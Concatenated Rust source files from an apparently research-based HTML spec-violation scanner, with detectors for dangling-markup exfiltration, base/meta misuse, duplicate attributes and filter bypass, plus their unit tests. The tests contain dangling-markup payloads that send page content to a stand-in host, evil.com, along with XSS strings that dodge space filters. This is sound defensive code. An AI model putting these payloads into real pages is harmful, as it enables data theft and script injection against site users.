/// Detection: the tree builder's form-element-pointer suppression event.
pub struct De4;

impl Check for De4 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE4
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        if matches!(ev.kind, TreeEventKind::NestedFormIgnored) {
            out.push(Finding::new(
                ViolationKind::DE4,
                ev.offset,
                "nested <form> start tag ignored by parser",
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }
    use crate::taxonomy::ViolationKind::*;

    #[test]
    fn de1_figure3_payload() {
        let r = check_page(
            "<body><form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n\
             <p>My little secret</p>\nmore content",
        );
        assert!(r.has(DE1));
    }

    #[test]
    fn de1_clean_textarea() {
        let r = check_page("<body><textarea>text</textarea><p>after</p></body>");
        assert!(!r.has(DE1));
    }

    #[test]
    fn de2_unterminated_select() {
        let r = check_page("<body><select><option>a\n<p>secret</p>");
        assert!(r.has(DE2));
    }

    #[test]
    fn de2_unterminated_option_alone() {
        let r = check_page("<body><select><option>a</select> ok <option>stray");
        assert!(r.has(DE2));
    }

    #[test]
    fn de2_clean_select() {
        let r = check_page(
            "<body><select><option>a</option><option>b</option></select><p>x</p></body>",
        );
        assert!(!r.has(DE2));
    }

    #[test]
    fn de3_1_dangling_markup_url() {
        let r = check_page("<body><img src='http://evil.com/?content=\n<p>secret</p>'></body>");
        assert!(r.has(DE3_1));
    }

    #[test]
    fn de3_1_requires_both_newline_and_lt() {
        let r = check_page("<body><a href=\"/a\n/b\">multi-line url</a></body>");
        assert!(!r.has(DE3_1));
        let r = check_page("<body><a href=\"/a<b\">lt only</a></body>");
        assert!(!r.has(DE3_1));
    }

    #[test]
    fn de3_1_ignores_non_url_attributes() {
        let r = check_page("<body><div title=\"a\n<b\">x</div></body>");
        assert!(!r.has(DE3_1));
    }

    #[test]
    fn de3_2_script_in_attribute() {
        // Figure 2: the non-terminated inj attribute absorbed a script tag.
        let r = check_page(
            "<body><script src=\"https://evil.com/x.js\" inj=\"\n\
             <p>The brown fox</p>\n<script id=\"in-action\" nonce=\"the-rnd-nonce\">\nx\n</body>",
        );
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_2_case_insensitive() {
        let r = check_page("<body><input value=\"<SCRIPT src=x>\"></body>");
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_2_benign_srcdoc_also_counts() {
        // The paper found the string mostly in srcdoc/value/data-* — still
        // counted by the check (that is the point of §4.5's analysis).
        let r = check_page(r#"<iframe srcdoc="<script>init()</script>"></iframe>"#);
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_3_target_with_newline() {
        let r = check_page(
            "<body><a href=\"https://evil.com\">click</a><base target='\n<p>secret</p>' ></body>",
        );
        assert!(r.has(DE3_3));
    }

    #[test]
    fn de3_3_normal_target_ok() {
        let r = check_page("<body><a href=\"/x\" target=\"_blank\">l</a></body>");
        assert!(!r.has(DE3_3));
    }

    #[test]
    fn de4_nested_form() {
        let r = check_page(
            "<body><form action=\"https://evil.com\"><form action=\"/real\"><input name=q></form></body>",
        );
        assert!(r.has(DE4));
    }

    #[test]
    fn de4_figure13_copy_paste_forms() {
        // Figure 13 lines 1–3: two nearly identical forms pasted in a row,
        // the first never closed.
        let r = check_page(
            "<form method=\"get\" action=\"/search/\">\n\
             <form id=\"keywordsearch\" name=\"keywordsearch\" method=\"get\" action=\"/search\">\n\
             <input name=\"q\" type=\"text\"/ >",
        );
        assert!(r.has(DE4));
    }

    #[test]
    fn de4_sibling_forms_ok() {
        let r = check_page("<body><form action=/a></form><form action=/b></form></body>");
        assert!(!r.has(DE4));
    }
}
