//! Data Manipulation checks (DM1–DM3, §3.2).

use super::{Check, Interest};
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::dom::NodeId;
use spec_html::errors::ParseError;
use spec_html::{tags, ErrorCode};

/// Whether `id` sits inside the document's `head` element.
fn inside_head(cx: &CheckContext<'_>, id: NodeId) -> bool {
    cx.parse.dom.ancestors(id).any(|a| cx.parse.dom.is_html(a, "head"))
}

/// DM1 — `meta[http-equiv]` outside `head`.
///
/// `http-equiv` metas can set cookies, redirect, or declare a CSP, and are
/// only defined for the head section (§4.2.5); the parsing process happily
/// applies them in the body (§13.2.6.4.7). Detection is structural: a meta
/// element with an `http-equiv` attribute whose ancestors do not include
/// `head`.
pub struct Dm1;

impl Check for Dm1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DM1
    }

    fn interest(&self) -> Interest {
        Interest::DOM
    }

    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, out: &mut Vec<Finding>) {
        let dom = &cx.parse.dom;
        if dom.is_html(id, "meta")
            && dom.element(id).is_some_and(|e| e.has_attr("http-equiv"))
            && !inside_head(cx, id)
        {
            let what =
                dom.element(id).and_then(|e| e.attr("http-equiv")).unwrap_or_default().to_owned();
            out.push(Finding::new(
                ViolationKind::DM1,
                dom.element(id).map(|e| e.src_offset).unwrap_or(0),
                format!("meta http-equiv=\"{what}\" outside head"),
            ));
        }
    }
}

/// DM2_1 — `base` outside `head` (§4.2.3): the parser accepts it anywhere,
/// letting injected content retarget every relative URL (CVE-2020-29653).
pub struct Dm2_1;

impl Check for Dm2_1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DM2_1
    }

    fn interest(&self) -> Interest {
        Interest::DOM
    }

    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, out: &mut Vec<Finding>) {
        let dom = &cx.parse.dom;
        if dom.is_html(id, "base") && !inside_head(cx, id) {
            let off = dom.element(id).map(|e| e.src_offset).unwrap_or(0);
            out.push(Finding::new(ViolationKind::DM2_1, off, "base element outside head"));
        }
    }
}

/// DM2_2 — more than one `base` element: only the first wins, so a second
/// (injected) one is either inert or, if first, hijacking.
#[derive(Default)]
pub struct Dm2_2 {
    bases: usize,
}

impl Check for Dm2_2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DM2_2
    }

    fn interest(&self) -> Interest {
        Interest::DOM | Interest::FINISH
    }

    fn reset(&mut self) {
        self.bases = 0;
    }

    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, _out: &mut Vec<Finding>) {
        if cx.parse.dom.is_html(id, "base") {
            self.bases += 1;
        }
    }

    fn finish(&mut self, _cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if self.bases > 1 {
            out.push(Finding::new(
                ViolationKind::DM2_2,
                0,
                format!("{} base elements in one document", self.bases),
            ));
        }
    }
}

/// DM2_3 — `base` after an element that uses a URL: the spec requires base
/// to "appear before any other element that uses a URL" (§4.2.3), otherwise
/// earlier URLs resolved against a different base than later ones.
#[derive(Default)]
pub struct Dm2_3 {
    /// Name of the first URL-using element seen on the DOM walk.
    seen_url_element: Option<String>,
}

impl Check for Dm2_3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DM2_3
    }

    fn interest(&self) -> Interest {
        Interest::DOM
    }

    fn reset(&mut self) {
        self.seen_url_element = None;
    }

    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, out: &mut Vec<Finding>) {
        let dom = &cx.parse.dom;
        let Some(e) = dom.element(id) else { return };
        if dom.is_html(id, "base") {
            if let Some(prev) = &self.seen_url_element {
                out.push(Finding::new(
                    ViolationKind::DM2_3,
                    e.src_offset,
                    format!("base element after URL-using <{prev}>"),
                ));
            }
            // Later URL-using elements are measured against this base;
            // one finding per offending base is enough.
            return;
        }
        // §4.2.3 exempts the html element itself ("except the html
        // element"): no element can precede the root, so URL attributes
        // landing there (e.g. via a merged duplicate <html> tag) don't
        // put later base elements in violation. The same applies to the
        // head element — it is base's own container, nothing inside it
        // can precede it, and no UA resolves a URL attribute on head.
        if self.seen_url_element.is_none()
            && !dom.is_html(id, "html")
            && !dom.is_html(id, "head")
            && e.attrs.iter().any(|a| tags::is_url_attribute(&a.name))
        {
            self.seen_url_element = Some(e.name.to_string());
        }
    }
}

/// DM3 — duplicate attributes: the tokenizer's `duplicate-attribute` error.
/// The first occurrence wins and everything after is ignored — so injecting
/// an attribute early invalidates the legitimate one (§3.2.2).
pub struct Dm3;

impl Check for Dm3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DM3
    }

    fn interest(&self) -> Interest {
        Interest::ERRORS
    }

    fn on_parse_error(&mut self, cx: &CheckContext<'_>, err: &ParseError, out: &mut Vec<Finding>) {
        if err.code == ErrorCode::DuplicateAttribute {
            out.push(Finding::new(
                ViolationKind::DM3,
                err.offset,
                format!("duplicate attribute near “{}”", cx.excerpt(err.offset, 24)),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }
    use crate::taxonomy::ViolationKind::*;

    #[test]
    fn dm1_meta_refresh_in_body() {
        // Figure 15's meta redirect ends up outside head.
        let r = check_page(
            "<html><head>Redirection</head>\n\
             <META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=HTTP://wds.iea.org/wds\">\n\
             <body>Page has moved <a href=\"http://wds.iea.org/wds\">here</a></body></html>",
        );
        assert!(r.has(DM1));
    }

    #[test]
    fn dm1_meta_in_head_is_fine() {
        let r = check_page(
            "<!DOCTYPE html><head><meta http-equiv=\"refresh\" content=\"0\"><title>t</title></head><body></body>",
        );
        assert!(!r.has(DM1));
    }

    #[test]
    fn dm1_charset_meta_in_body_not_flagged() {
        // Only http-equiv metas are DM1; a (misplaced) charset meta is HF
        // territory, not DM1.
        let r = check_page("<!DOCTYPE html><head></head><body><meta charset=utf-8></body>");
        assert!(!r.has(DM1));
    }

    #[test]
    fn dm2_1_base_in_body() {
        let r = check_page(
            "<!DOCTYPE html><head><title>t</title></head><body><base href=\"https://evil.com/\"><img src=\"logo.png\"></body>",
        );
        assert!(r.has(DM2_1));
    }

    #[test]
    fn dm2_2_two_bases() {
        let r = check_page(
            "<!DOCTYPE html><head><base href=\"/a/\"><base href=\"/b/\"><title>t</title></head><body></body>",
        );
        assert!(r.has(DM2_2));
    }

    #[test]
    fn dm2_3_base_after_stylesheet_link() {
        let r = check_page(
            "<!DOCTYPE html><head><link rel=\"stylesheet\" href=\"s.css\"><base href=\"/b/\"></head><body></body>",
        );
        assert!(r.has(DM2_3));
        assert!(!r.has(DM2_1));
        assert!(!r.has(DM2_2));
    }

    #[test]
    fn dm2_clean_base_first() {
        let r = check_page(
            "<!DOCTYPE html><head><base href=\"/b/\" target=\"_self\"><link rel=\"stylesheet\" href=\"s.css\"></head><body><a href=\"x\">l</a></body>",
        );
        assert!(!r.has(DM2_1));
        assert!(!r.has(DM2_2));
        assert!(!r.has(DM2_3));
    }

    #[test]
    fn dm3_duplicate_onclick() {
        // §3.2.2's example: the injected onclick invalidates the benign one.
        let r = check_page(r#"<div id="injection" onclick="evil()" onclick="benign()">x</div>"#);
        assert!(r.has(DM3));
    }

    #[test]
    fn dm3_figure14_duplicate_alt() {
        // Figure 14: an alt attribute added in a refactor although one
        // already existed.
        let r = check_page(r#"<img src="p.jpg" alt="" width="100" alt="Product photo">"#);
        assert!(r.has(DM3));
    }

    #[test]
    fn dm3_distinct_attributes_fine() {
        let r = check_page(r#"<img src="p.jpg" alt="a" title="b">"#);
        assert!(!r.has(DM3));
    }
}
