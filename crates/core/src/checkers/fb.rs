//! Filter Bypass checks (FB1–FB2, §3.2.2) — the two most common violations
//! in the study (FB2 on 78.5% of domains, FB1 on 42.8%).

use super::{Check, Interest};
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::errors::ParseError;
use spec_html::ErrorCode;

/// FB1 — slash between attributes: the tokenizer's
/// `unexpected-solidus-in-tag` error. Parsers treat the `/` as whitespace,
/// so `<img/src=x/onerror=alert(1)>` bypasses filters that block spaces.
pub struct Fb1;

impl Check for Fb1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::FB1
    }

    fn interest(&self) -> Interest {
        Interest::ERRORS
    }

    fn on_parse_error(&mut self, cx: &CheckContext<'_>, err: &ParseError, out: &mut Vec<Finding>) {
        if err.code == ErrorCode::UnexpectedSolidusInTag {
            out.push(Finding::new(
                ViolationKind::FB1,
                err.offset,
                format!("solidus treated as whitespace near “{}”", cx.excerpt(err.offset, 24)),
            ));
        }
    }
}

/// FB2 — missing whitespace between attributes: the tokenizer's
/// `missing-whitespace-between-attributes` error. The parser inserts the
/// missing separator, so `<img src="x"onerror="y">` works — and bypasses
/// space-blocking filters.
pub struct Fb2;

impl Check for Fb2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::FB2
    }

    fn interest(&self) -> Interest {
        Interest::ERRORS
    }

    fn on_parse_error(&mut self, cx: &CheckContext<'_>, err: &ParseError, out: &mut Vec<Finding>) {
        if err.code == ErrorCode::MissingWhitespaceBetweenAttributes {
            out.push(Finding::new(
                ViolationKind::FB2,
                err.offset,
                format!("attributes not separated near “{}”", cx.excerpt(err.offset, 24)),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }
    use crate::taxonomy::ViolationKind::*;

    #[test]
    fn fb1_xss_payload() {
        let r = check_page(r#"<img/src="x"/onerror="alert('XSS')">"#);
        assert!(r.has(FB1));
    }

    #[test]
    fn fb1_figure13_broken_onclick() {
        // The wrong quotes break the attribute so /foo's slash becomes
        // whitespace.
        let r = check_page(
            r#"<a href="/x" target="_blank" onClick="img=new Image();img.src="/foo?cl=1";">l</a>"#,
        );
        assert!(r.has(FB1));
    }

    #[test]
    fn fb1_valid_self_closing_ok() {
        let r = check_page(r#"<input name="q" type="text" />"#);
        assert!(!r.has(FB1));
    }

    #[test]
    fn fb2_concatenated_attributes() {
        let r = check_page(r#"<img src="users/injection"onerror="alert('XSS')">"#);
        assert!(r.has(FB2));
    }

    #[test]
    fn fb2_figure13_iframe() {
        let r = check_page(r#"<iframe src="https://foobar"</iframe>"#);
        assert!(r.has(FB2));
    }

    #[test]
    fn fb2_figure13_cote_divoire() {
        let r = check_page("<select><option value='Cote d'Ivoire'>x</option></select>");
        assert!(r.has(FB2));
    }

    #[test]
    fn fb2_spaced_attributes_ok() {
        let r = check_page(r#"<img src="a.png" alt="a" title="b">"#);
        assert!(!r.has(FB2));
    }

    #[test]
    fn fb_errors_count_once_per_occurrence() {
        let r = check_page(r#"<img src="a"alt="b"title="c">"#);
        let fb2 = r.findings.iter().filter(|f| f.kind == FB2).count();
        assert_eq!(fb2, 2);
    }
}
