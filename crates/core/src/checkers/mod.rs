//! The checker battery: one independent rule per [`ViolationKind`].
//!
//! Mirroring the paper's framework (§3.3), each rule is logically
//! independent — rules never read each other's results. *Mechanically*,
//! though, the rules are visitors: each declares an [`Interest`] mask and
//! implements the matching [`Check`] handlers, and [`crate::Battery`]
//! makes one fused pass over the page (parse errors → tree events → start
//! tags → DOM pre-order walk → finish), dispatching every item only to the
//! rules that asked for it. Rules that need cross-event state (DE1/DE2's
//! EOF stack, HF2's head-close correlation, HF3's body counting) keep it
//! in small per-check accumulators, reset per page.
//!
//! The pre-fusion implementation — twenty independent full-context scans —
//! lives on in [`legacy`] as the reference the equivalence tests and the
//! fused-vs-legacy bench run against.
//!
//! The module split follows the problem groups.

pub mod de;
pub mod dm;
pub mod fb;
pub mod hf;
pub mod legacy;

use crate::context::CheckContext;
use crate::report::{Finding, MitigationFlags, PageReport};
use crate::taxonomy::ViolationKind;
use spec_html::dom::NodeId;
use spec_html::errors::ParseError;
use spec_html::tokenizer::Tag;
use spec_html::TreeEvent;

/// Bitmask of the dispatch sources a rule wants to see. The battery skips
/// a rule entirely for every source it did not ask for — and skips whole
/// passes (e.g. the DOM walk) when no rule in the battery asked for them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Interest(u8);

impl Interest {
    /// Nothing (useful as a fold seed).
    pub const NONE: Interest = Interest(0);
    /// Tokenizer/preprocessing [`ParseError`]s, in source order.
    pub const ERRORS: Interest = Interest(1);
    /// Tree-construction [`TreeEvent`]s, in source order.
    pub const EVENTS: Interest = Interest(1 << 1);
    /// Checker-relevant start tags, in source order.
    pub const START_TAGS: Interest = Interest(1 << 2);
    /// The shared pre-order DOM element walk.
    pub const DOM: Interest = Interest(1 << 3);
    /// One [`Check::finish`] call after all passes.
    pub const FINISH: Interest = Interest(1 << 4);

    /// Set union.
    pub const fn union(self, other: Interest) -> Interest {
        Interest(self.0 | other.0)
    }

    /// Whether every bit of `other` is set in `self`.
    pub const fn contains(self, other: Interest) -> bool {
        self.0 & other.0 == other.0
    }

    pub const fn is_empty(self) -> bool {
        self.0 == 0
    }
}

impl std::ops::BitOr for Interest {
    type Output = Interest;
    fn bitor(self, rhs: Interest) -> Interest {
        self.union(rhs)
    }
}

/// A single violation rule, written as an event visitor.
///
/// The battery calls [`Check::reset`] before each page, then only the
/// handlers named in [`Check::interest`], in a fixed pass order (errors,
/// events, start tags, DOM nodes, finish). Within one pass, items arrive
/// in source order — exactly the order the pre-fusion per-check scans
/// iterated — so the sorted findings are byte-identical to the legacy
/// engine's.
pub trait Check: Send + Sync {
    /// Which check this is.
    fn kind(&self) -> ViolationKind;

    /// Which dispatch sources this rule consumes.
    fn interest(&self) -> Interest;

    /// Clear per-page accumulator state. Stateless rules do nothing.
    fn reset(&mut self) {}

    /// One tokenizer/preprocessing parse error.
    fn on_parse_error(&mut self, cx: &CheckContext<'_>, err: &ParseError, out: &mut Vec<Finding>) {
        let _ = (cx, err, out);
    }

    /// One tree-construction recovery event.
    fn on_tree_event(&mut self, cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        let _ = (cx, ev, out);
    }

    /// One checker-relevant start tag.
    fn on_start_tag(&mut self, cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        let _ = (cx, tag, out);
    }

    /// One element of the shared pre-order DOM walk.
    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, out: &mut Vec<Finding>) {
        let _ = (cx, id, out);
    }

    /// Called once after all passes; rules that accumulate (or read
    /// whole-page parse facts like the EOF stack) emit here.
    fn finish(&mut self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        let _ = (cx, out);
    }
}

/// The full battery, in taxonomy order — one checker per Figure-8 bar.
pub fn all_checks() -> Vec<Box<dyn Check>> {
    vec![
        Box::new(de::De1),
        Box::new(de::De2),
        Box::new(de::De3_1),
        Box::new(de::De3_2),
        Box::new(de::De3_3),
        Box::new(de::De4),
        Box::new(dm::Dm1),
        Box::new(dm::Dm2_1),
        Box::new(dm::Dm2_2::default()),
        Box::new(dm::Dm2_3::default()),
        Box::new(dm::Dm3),
        Box::new(hf::Hf1),
        Box::new(hf::Hf2::default()),
        Box::new(hf::Hf3::default()),
        Box::new(hf::Hf4),
        Box::new(hf::Hf5_1),
        Box::new(hf::Hf5_2),
        Box::new(hf::Hf5_3),
        Box::new(fb::Fb1),
        Box::new(fb::Fb2),
    ]
}

/// Run every rule over a page and assemble the [`PageReport`] (violations +
/// §4.5 mitigation flags).
///
/// Deprecated shim: the one-shot free functions folded into
/// [`crate::Battery`], whose constructors (`full`/`only`) plus methods
/// (`run_str`/`run_fragment`/`run`) cover the same ground and let hot
/// loops reuse the rule set. Kept for one release.
#[deprecated(
    since = "0.2.0",
    note = "use `Battery::full().run_str(raw)` (reuse the Battery in loops)"
)]
pub fn check_page(raw: &str) -> PageReport {
    crate::Battery::full().run_str(raw)
}

/// Run every rule over a dynamically loaded HTML *fragment* (parsed with
/// innerHTML semantics in a `div` context) — the §5.1 pre-study's unit of
/// analysis.
///
/// Deprecated shim; see [`check_page`].
#[deprecated(
    since = "0.2.0",
    note = "use `Battery::full().run_fragment(raw, \"div\")` (reuse the Battery in loops)"
)]
pub fn check_fragment(raw: &str) -> PageReport {
    crate::Battery::full().run_fragment(raw, "div")
}

/// Like [`check_page`] but reusing an existing context (the caller builds
/// the context once and also feeds, e.g., the auto-fixer).
///
/// Deprecated shim; see [`check_page`].
#[deprecated(since = "0.2.0", note = "use `Battery::full().run(cx)` (reuse the Battery in loops)")]
pub fn check_context(cx: &CheckContext<'_>) -> PageReport {
    crate::Battery::full().run(cx)
}

/// Allocation-free ASCII-case-insensitive substring search. `needle` must
/// already be lowercase.
fn contains_ascii_ci(haystack: &str, needle: &str) -> bool {
    let h = haystack.as_bytes();
    let n = needle.as_bytes();
    debug_assert!(n.iter().all(|b| !b.is_ascii_uppercase()));
    if n.is_empty() {
        return true;
    }
    if h.len() < n.len() {
        return false;
    }
    let first = n[0];
    h[..=h.len() - n.len()].iter().enumerate().any(|(i, &b)| {
        b.eq_ignore_ascii_case(&first)
            && h[i + 1..i + n.len()].iter().zip(&n[1..]).all(|(a, c)| a.eq_ignore_ascii_case(c))
    })
}

/// Streaming accumulator behind [`mitigation_flags`]: folds one start tag
/// at a time, so the battery computes the flags inside the same fused tag
/// pass that feeds the tag-interested checks.
#[derive(Default)]
pub(crate) struct MitigationAccumulator {
    flags: MitigationFlags,
}

impl MitigationAccumulator {
    pub(crate) fn observe(&mut self, tag: &Tag) {
        let is_script = tag.name == "script";
        let has_nonce = tag.attr("nonce").is_some();
        for attr in &tag.attrs {
            if contains_ascii_ci(&attr.value, "<script") {
                self.flags.script_in_attribute = true;
                if is_script && has_nonce {
                    self.flags.script_in_nonced_script = true;
                }
            }
            if spec_html::tags::is_url_attribute(&attr.name) && attr.raw_value().contains('\n') {
                self.flags.newline_in_url = true;
                if attr.raw_value().contains('<') {
                    self.flags.newline_and_lt_in_url = true;
                }
            }
        }
    }

    pub(crate) fn finish(self) -> MitigationFlags {
        self.flags
    }
}

/// §4.5: per-page flags for the two deployed browser mitigations.
pub fn mitigation_flags(cx: &CheckContext<'_>) -> MitigationFlags {
    let mut acc = MitigationAccumulator::default();
    for tag in cx.start_tags() {
        acc.observe(tag);
    }
    acc.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check_page(raw: &str) -> PageReport {
        crate::Battery::full().run_str(raw)
    }

    #[test]
    fn battery_covers_all_twenty_kinds() {
        let mut kinds: Vec<_> = all_checks().iter().map(|c| c.kind()).collect();
        kinds.sort_unstable();
        kinds.dedup();
        assert_eq!(kinds.len(), ViolationKind::ALL.len());
    }

    #[test]
    fn clean_page_is_clean() {
        let report = check_page(
            "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">\
             <title>ok</title></head><body><p>fine</p></body></html>",
        );
        assert!(report.is_clean(), "unexpected findings: {:?}", report.findings);
    }

    #[test]
    fn findings_are_sorted() {
        let report =
            check_page("<img src=a src=b><div id=x id=y><p/ class=c><a href=\"u\"title=t>");
        let mut sorted = report.findings.clone();
        sorted.sort_by_key(|f| (f.kind, f.offset));
        assert_eq!(report.findings, sorted);
    }

    #[test]
    fn mitigation_flags_detect_mixed_case_script() {
        // The tokenizer lowercases tag/attribute *names* but leaves attribute
        // *values* as written; the `<script` probe must be case-insensitive
        // over the value without allocating a lowered copy.
        let cx = crate::context::CheckContext::new(
            r#"<iframe srcdoc="<ScRiPt>alert(1)</ScRiPt>"></iframe>"#,
        );
        let flags = mitigation_flags(&cx);
        assert!(flags.script_in_attribute);
    }

    #[test]
    fn contains_ascii_ci_edges() {
        assert!(contains_ascii_ci("x<SCRIPT y", "<script"));
        assert!(contains_ascii_ci("<script", "<script"));
        assert!(!contains_ascii_ci("<scrip", "<script"));
        assert!(!contains_ascii_ci("", "<script"));
        assert!(contains_ascii_ci("anything", ""));
        // Case-insensitivity is ASCII-only: no Unicode case folding.
        assert!(!contains_ascii_ci("<ſcript>", "<script"));
    }

    #[test]
    fn mitigation_flags_detect_script_string() {
        let cx = crate::context::CheckContext::new(
            r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
        );
        let flags = mitigation_flags(&cx);
        assert!(flags.script_in_attribute);
        assert!(!flags.script_in_nonced_script);
    }

    #[test]
    fn mitigation_flags_nonced_script() {
        let cx = crate::context::CheckContext::new(
            "<script nonce=\"r4nd0m\" data-x=\"<script\">var x;</script>",
        );
        let flags = mitigation_flags(&cx);
        assert!(flags.script_in_nonced_script);
    }

    #[test]
    fn mitigation_flags_newline_urls() {
        let cx = crate::context::CheckContext::new("<a href=\"/x\n/y\">l</a>");
        let flags = mitigation_flags(&cx);
        assert!(flags.newline_in_url);
        assert!(!flags.newline_and_lt_in_url);

        let cx = crate::context::CheckContext::new("<img src='http://e/?q=\n<p>secret'>");
        let flags = mitigation_flags(&cx);
        assert!(flags.newline_and_lt_in_url);
    }

    #[test]
    fn encoded_newline_does_not_count() {
        // `&#10;` decodes to \n in the value but is not a raw newline in the
        // source; the mitigation (and DE3_1) key on the raw bytes.
        let cx = crate::context::CheckContext::new("<a href=\"/x&#10;<\">l</a>");
        let flags = mitigation_flags(&cx);
        assert!(!flags.newline_in_url);
    }
}
