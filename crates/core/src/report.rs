//! Findings and per-page reports.

use crate::taxonomy::{ProblemGroup, ViolationKind};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// One detected violation: which check fired, where, and why.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    pub kind: ViolationKind,
    /// Character offset into the (preprocessed) document where the evidence
    /// sits; 0 when the violation is a whole-document property.
    pub offset: usize,
    /// Short human-readable evidence (an excerpt or element description).
    pub evidence: String,
}

impl Finding {
    pub fn new(kind: ViolationKind, offset: usize, evidence: impl Into<String>) -> Self {
        Finding { kind, offset, evidence: evidence.into() }
    }
}

/// The result of running the full checker battery over one page.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct PageReport {
    pub findings: Vec<Finding>,
    /// §4.5 mitigation counters, measured alongside the violations.
    pub mitigations: MitigationFlags,
}

impl PageReport {
    /// The distinct violation kinds present on this page.
    pub fn kinds(&self) -> BTreeSet<ViolationKind> {
        self.findings.iter().map(|f| f.kind).collect()
    }

    /// The distinct problem groups present on this page.
    pub fn groups(&self) -> BTreeSet<ProblemGroup> {
        self.findings.iter().map(|f| f.kind.group()).collect()
    }

    pub fn has(&self, kind: ViolationKind) -> bool {
        self.findings.iter().any(|f| f.kind == kind)
    }

    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }
}

/// Page-level flags for the two deployed mitigations §4.5 evaluates.
///
/// Every field carries `#[serde(default)]` so the struct can be embedded
/// with `#[serde(flatten)]` in larger records (and loaded from stores
/// written before a given flag existed).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct MitigationFlags {
    /// An attribute value contains the string `<script` (the nonce-stealing
    /// heuristic the CSP spec discussion proposed).
    #[serde(default)]
    pub script_in_attribute: bool,
    /// …and that attribute sits on an actual `<script>` element carrying a
    /// CSP nonce (the only case the mitigation would break). The paper found
    /// zero of these.
    #[serde(default)]
    pub script_in_nonced_script: bool,
    /// A URL-valued attribute contains a raw newline.
    #[serde(default)]
    pub newline_in_url: bool,
    /// A URL-valued attribute contains a newline *and* a `<` (what Chromium
    /// blocks since 2017).
    #[serde(default)]
    pub newline_and_lt_in_url: bool,
}

impl MitigationFlags {
    /// OR the other page's flags into this accumulator (how per-domain
    /// flags are built from per-page flags).
    pub fn merge(&mut self, other: MitigationFlags) {
        self.script_in_attribute |= other.script_in_attribute;
        self.script_in_nonced_script |= other.script_in_nonced_script;
        self.newline_in_url |= other.newline_in_url;
        self.newline_and_lt_in_url |= other.newline_and_lt_in_url;
    }

    /// True when any flag is set.
    pub fn any(&self) -> bool {
        self.script_in_attribute
            || self.script_in_nonced_script
            || self.newline_in_url
            || self.newline_and_lt_in_url
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_and_groups_dedupe() {
        let mut r = PageReport::default();
        r.findings.push(Finding::new(ViolationKind::FB2, 0, "a"));
        r.findings.push(Finding::new(ViolationKind::FB2, 9, "b"));
        r.findings.push(Finding::new(ViolationKind::DM3, 3, "c"));
        assert_eq!(r.kinds().len(), 2);
        assert_eq!(r.groups().len(), 2);
        assert!(r.has(ViolationKind::FB2));
        assert!(!r.has(ViolationKind::DE1));
        assert!(!r.is_clean());
    }

    #[test]
    fn serde_roundtrip() {
        let mut r = PageReport::default();
        r.findings.push(Finding::new(ViolationKind::HF4, 12, "strong in tr"));
        r.mitigations.newline_in_url = true;
        let json = serde_json::to_string(&r).unwrap();
        let back: PageReport = serde_json::from_str(&json).unwrap();
        assert_eq!(back.findings, r.findings);
        assert_eq!(back.mitigations, r.mitigations);
    }
}
