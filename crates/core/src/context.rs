//! Shared per-page analysis context.
//!
//! The paper's framework "runs the rules independently of each other"
//! (§3.3); to do that without parsing the page twenty times, a
//! [`CheckContext`] is built once (one full parse) and every checker reads
//! from it.

use spec_html::tokenizer::Tag;
use spec_html::ParseOutput;
use std::cell::Cell;

/// Which start tags the checkers can ever act on: tags carrying at least
/// one attribute (DE3_1/DE3_2/DE3_3 and the §4.5 mitigation flags inspect
/// attribute values) plus every `<body>` tag (HF3 counts them). Everything
/// else streams past without being cloned.
fn checker_relevant(tag: &Tag) -> bool {
    !tag.attrs.is_empty() || tag.name == "body"
}

/// Everything a checker may inspect about one page.
pub struct CheckContext<'a> {
    /// The raw document text as crawled (after UTF-8 decoding).
    pub raw: &'a str,
